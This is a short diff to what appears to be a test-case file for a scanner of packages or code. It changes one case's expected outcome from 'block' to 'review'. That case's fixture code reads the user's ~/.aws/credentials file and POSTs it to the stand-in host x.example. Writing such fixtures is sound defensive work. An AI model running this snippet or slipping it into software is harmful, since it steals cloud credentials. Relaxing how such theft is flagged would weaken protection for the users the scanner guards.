@@ -364,7 +364,7 @@ export default defineCases({
     },
     {
       name: 'a file that tools work with, as it is, when it is started',
-      alone: 'block',
+      alone: 'review',
       manifest: { type: 'module', bin: 'index.js' },
       code: "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nawait fetch('https://x.example/', { method: 'POST', body: readFileSync(homedir() + '/.aws/credentials', 'utf8').trim() });",
     },
